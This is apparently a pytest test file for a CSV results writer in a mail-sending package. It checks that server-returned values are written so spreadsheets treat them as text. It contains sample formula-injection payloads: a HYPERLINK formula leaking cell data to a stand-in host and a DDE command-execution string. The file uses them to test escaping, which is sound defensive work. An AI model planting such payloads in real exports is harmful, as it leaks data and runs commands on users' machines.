"""The results CSV never hands a spreadsheet a formula: what the server sends back (message
ids, problem details) is written so that a spreadsheet shows it as text."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from postino_send.outcomes import Outcome, RowResult
from postino_send.results_file import ResultsWriter, read_results, spreadsheet_safe

FISCAL_CODE = "RSSMRA80A01H501U"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _raw_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as source:
        return list(csv.reader(source))


@pytest.mark.parametrize("value", FORMULAS)
def test_a_server_value_that_a_spreadsheet_would_run_is_written_as_text(
    tmp_path: Path, value: str
) -> None:
    # GIVEN a server that answers a message id and a problem detail shaped as formulas
    path = tmp_path / "results.csv"
    writer = ResultsWriter(path)
    result = RowResult(1, FISCAL_CODE, Outcome.FAILED, message_id=value, error=value)

    # WHEN the row is recorded, and the file completed
    writer.record(result)
    appended = _raw_cells(path)[1]
    writer.complete([result])

    # THEN both cells start with a quote, in the appended and the complete file alike
    for cells in (appended, _raw_cells(path)[1]):
        assert cells[3] == "'" + value
        assert cells[4] == "'" + value


def test_ordinary_values_are_written_as_they_are(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    writer = ResultsWriter(path)
    result = RowResult(7, FISCAL_CODE, Outcome.SENT, message_id="01JCZ0000000000000000000C1")
    writer.complete([result])

    assert read_results(path) == [
        {
            "row": "7",
            "fiscal_code": FISCAL_CODE,
            "outcome": "sent",
            "message_id": "01JCZ0000000000000000000C1",
            "error": "",
        }
    ]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("HTTP 400: bad", "HTTP 400: bad"),
        ("a=b", "a=b"),
        ("", ""),
        ("=1", "'=1"),
        ("-", "'-"),
    ],
)
def test_only_a_leading_formula_character_is_neutralised(cell: str, written: str) -> None:
    assert spreadsheet_safe(cell) == written
